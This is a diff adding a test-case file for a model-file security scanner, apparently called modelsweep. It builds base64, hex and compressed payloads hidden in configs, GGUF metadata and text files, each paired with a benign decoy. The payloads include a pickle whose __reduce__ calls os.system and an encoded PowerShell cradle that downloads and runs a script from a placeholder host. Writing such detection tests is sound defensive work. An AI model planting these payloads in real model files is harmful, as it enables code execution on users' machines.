@@ -1,0 +1,100 @@
+"""Payloads encoded in text, configurations and metadata; and keys, images and vocabularies that are none."""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import hashlib
+import json
+import os
+import pickle
+import random
+import zlib
+from collections import OrderedDict
+
+from modelsweep.core.report import Verdict
+from tests.scanners.case import Case
+from tests.scanners.gguf.cases import built, pair
+from tests.scanners.native_code import elf, pe
+
+NOISE = random.Random(5).randbytes(6_000)
+SHELL = b"#!/bin/sh\necho modelsweep-test\n"
+PYTHON = b"import os\nos.system('echo modelsweep-test')\n"
+POWERSHELL = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/x')".encode("utf-16-le")
+HARMLESS = b"import math\nprint(math.pi, 'modelsweep-test')\n"
+
+
+class Exploit:
+    """Saved as a call that would print."""
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        """Return the call."""
+        return os.system, ("echo modelsweep-test",)
+
+
+def malicious() -> bytes:
+    """Return a pickle that would print."""
+    return pickle.dumps(Exploit(), 4)
+
+
+def b64(data: bytes) -> str:
+    """Return base64 in one line."""
+    return base64.b64encode(data).decode()
+
+
+def config(text: str, verdict: Verdict, name: str = "config.json") -> Case:
+    """Return the case of a configuration that holds `text`."""
+    return Case(lambda: json.dumps({"model_type": "bert", "note": text}).encode(), name, verdict, cut_is_clean=True)
+
+
+def lines(text: str, verdict: Verdict, name: str = "notes.md") -> Case:
+    """Return the case of a text that holds `text` on a line of its own."""
+    return Case(f"# Notes\n\n{text}\n\nThe end.\n".encode, name, verdict, cut_is_clean=True)
+
+
+def gguf(text: str, verdict: Verdict) -> Case:
+    """Return the case of metadata of a model that hold `text`."""
+    return Case(lambda: built([pair("general.description", text)], [], 0), "model.gguf", verdict, cut_is_clean=True)
+
+
+def png() -> str:
+    """Return a picture as notebooks hold it."""
+    return b64(b"\x89PNG\r\n\x1a\n" + NOISE)
+
+
+CLEAN, REVIEW, MALICIOUS = Verdict.CLEAN, Verdict.REVIEW, Verdict.MALICIOUS
+CASES = {
+    "pickle_in_config": config(b64(malicious()), MALICIOUS),
+    "pickle_of_protocol_2": config(b64(pickle.dumps(Exploit(), 2)), MALICIOUS),
+    "pickle_of_protocol_0": config(b64(pickle.dumps(Exploit(), 0)), MALICIOUS),
+    "pickle_in_hexadecimal": config(malicious().hex(), MALICIOUS),
+    "pickle_compressed": config(b64(zlib.compress(malicious() + bytes(100), 9)), MALICIOUS),
+    "pickle_in_gzip": config(b64(gzip.compress(malicious(), mtime=0)), MALICIOUS),
+    "pickle_in_layers": config(b64(zlib.compress(b64(malicious()).encode() * 2)), MALICIOUS),
+    "pickle_in_metadata": gguf(b64(malicious()), MALICIOUS),
+    "executable_in_config": config(b64(elf()), MALICIOUS),
+    "executable_of_windows": config(b64(pe()), MALICIOUS),
+    "executable_in_lines": lines(base64.encodebytes(elf()).decode(), MALICIOUS),
+    "executable_in_hexadecimal": config(elf().hex(), MALICIOUS),
+    "script_in_metadata": gguf(b64(SHELL), REVIEW),
+    "script_in_yaml": lines(f"note: {b64(SHELL)}", REVIEW, "notes.yaml"),
+    "powershell": config(f"powershell -enc {b64(POWERSHELL)}", REVIEW),
+    "python_in_config": config(b64(PYTHON), REVIEW),
+    "python_compressed": config(b64(zlib.compress(PYTHON * 3)), REVIEW),
+    "executable_in_python": Case(f"DATA = '{b64(elf())}'\n".encode, "data.py", MALICIOUS, cut_is_clean=True),
+    "benign_explained": lines("\n".join((b64(malicious()), b64(PYTHON), b64(SHELL))), CLEAN, "README.md"),
+    "benign_python": config(b64(HARMLESS), CLEAN),
+    "benign_pickle": config(b64(pickle.dumps(OrderedDict(a=[1, 2]), 4)), CLEAN),
+    "benign_picture": config(png(), CLEAN, "example.ipynb"),
+    "benign_random": config(b64(NOISE), CLEAN),
+    "benign_magic": config(" ".join((b64(b"\x7fELF\x02\x01" + NOISE[:90]), b64(b"MZ\x90\0\x03" + NOISE[:90]))), CLEAN),
+    "benign_compressed": config(b64(zlib.compress(NOISE, 9)), CLEAN),
+    "benign_digests": lines("\n".join(hashlib.sha256(bytes([n])).hexdigest() for n in range(200)), CLEAN),
+    "benign_integrity": lines(f'integrity="sha384-{b64(hashlib.sha384(b"x").digest())}"', CLEAN),
+    "benign_within": config("AAAA" + b64(malicious()), CLEAN),
+    "benign_vocabulary": Case(
+        lambda: json.dumps({"gASVaaaaaaaaaaaaaaaaaaaa": 1, "H4sIaaaaaaaaaaaaaaaaaaaaaaa": 2, "IyEvYm": 3}).encode(),
+        "vocab.json",
+        CLEAN,
+    ),
+}
